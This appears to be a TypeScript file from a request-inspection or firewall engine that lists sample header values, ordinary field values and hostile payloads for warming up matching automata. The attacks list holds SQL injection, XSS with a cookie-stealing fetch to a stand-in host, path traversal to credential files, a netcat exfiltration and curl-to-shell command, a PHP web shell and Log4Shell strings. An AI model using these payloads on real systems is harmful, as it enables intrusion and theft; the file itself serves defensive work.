// Texts of the kinds that requests bring, clean and hostile, for the states of automata to be made before
// requests wait for them. Made up here; a text that is missing costs the first request that brings it a
// millisecond and no verdict.

const CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";

const headers: readonly string[] = [
  `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${CHROME}`,
  `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${CHROME} Edg/131.0.2903.86`,
  `Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0`,
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) Version/18.1 Mobile/15E148 Safari/604.1",
  "okhttp/4.12.0",
  "curl/8.5.0",
  "python-requests/2.32.3",
  "application/json, text/plain, */*",
  "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
  "application/x-www-form-urlencoded; charset=UTF-8",
  "multipart/form-data; boundary=----WebKitFormBoundaryq7HxZc3nT0aLw2Rk",
  "en-GB,en-US;q=0.9,en;q=0.8,de;q=0.7",
  "gzip, deflate, br, zstd",
  '"Chromium";v="131", "Not_A Brand";v="24"',
  'W/"5f2a-18c9d3e7b40"',
  "max-age=0, no-cache, no-store, must-revalidate",
  "Wed, 21 Oct 2026 07:28:00 GMT",
  "https://www.example.com/products/chairs?page=2&sort=price",
  "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
  "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1c2VyLTE3IiwiZXhwIjoxNzk4NzYxNjAwfQ.Qm9-x_7Kd",
  "session=8c1f0b7e2d; theme=dark; consent=analytics%3Atrue; _ga=GA1.2.1234567890.1700000000",
];

const values: readonly string[] = [
  "/api/v1/customers/48213/orders?limit=50&offset=100&expand=items,owner",
  "/static/js/app.3f9c2b1e.chunk.js",
  "/search?q=red+running+shoes&colour=dark%20blue&min=10.50&max=99",
  "GET /api/items/42?expand=owner&limit=20 HTTP/1.1",
  "POST /graphql HTTP/2.0",
  "7d1c3a0e-55b2-4f6a-9d6e-1b2f3c4d5e6f",
  "2026-03-14T09:26:53.589Z",
  "jane.o'brien+news@mail.example.org",
  "+44 20 7946 0958",
  "1499.99",
  "-12.5e-3",
  "true",
  "null",
  "Rue de l'Église 12, 1050 Ixelles (2nd floor)",
  "Hello, I ordered two chairs & a table last week; could you tell me when they arrive? Thanks! - Ann",
  "The quick brown fox jumps over the lazy dog.\nSelect one from the list, and delete the other or update it.",
  "json.items.3.price.amount",
  "user[address][0].postal_code",
  "query { viewer { id name orders(first: 10) { nodes { id total } } } }",
  '{"name":"Lamp","tags":["light","home"],"size":{"w":10,"h":20.5},"inStock":true}',
  '<p>Some <b>bold</b> text with a <a href="https://example.com/">link</a></p>',
  "# Title\n\n- first point\n- second point: `code` and *stress*\n\n[a link](https://example.com)",
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "C:\\Users\\ann\\Documents\\report (final).docx",
  "xK9_wQ-27fLmZ0pTgV4sYbHcNnUe1rJdAoEi83",
];

const attacks: readonly string[] = [
  "1' OR '1'='1' -- ",
  "1) UNION ALL SELECT null,concat(login,0x3a,pass),version() FROM users#",
  "1;WAITFOR DELAY '0:0:5'--",
  "admin'/**/and/**/sleep(5)/**/and/**/'x'='x",
  "' || (select table_name from information_schema.tables limit 1) || '",
  "<script>alert(document.cookie)</script>",
  '"><img src=x onerror=prompt(1)><svg/onload=eval(name)>',
  "javascript:fetch('//evil.example/'+document.cookie)",
  "../../../../etc/passwd%00.png",
  "..\\..\\windows\\win.ini",
  "file:///etc/shadow http://169.254.169.254/latest/meta-data/",
  "; cat /etc/passwd | nc 10.0.0.1 4444 && rm -rf /tmp/x `id` $(whoami)",
  "| powershell -enc SQBFAFgA & cmd.exe /c dir c:\\",
  '() { :;}; /bin/bash -c "curl http://evil.example/x.sh | sh"',
  "<?php system($_GET['c']); eval(base64_decode('cGhwaW5mbygpOw==')); ?>",
  "${jndi:ldap://evil.example/a} ${${lower:j}ndi:rmi://x}",
  "{{7*7}} #{7*7} <%= 7*7 %> ${T(java.lang.Runtime).getRuntime().exec('id')}",
  "__proto__[polluted]=1&constructor.prototype.x=1;process.mainModule.require('child_process')",
  'O:8:"Example1":1:{s:5:"value";s:2:"ok";}',
  "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
  "%0d%0aSet-Cookie: a=b%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK",
  "sqlmap/1.8 (https://sqlmap.org) nikto/2.5.0 Nessus",
];

/** A file in base64, as JSON carries it: a long text in which any char may follow any. */
const file = (): string => {
  const bytes = Buffer.alloc(13_824);
  for (let at = 0, state = 1; at < bytes.length; at++) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    bytes[at] = state >>> 24;
  }
  return bytes.toString("base64");
};

export const warmSamples: readonly string[] = [...headers, ...values, ...attacks, file()];
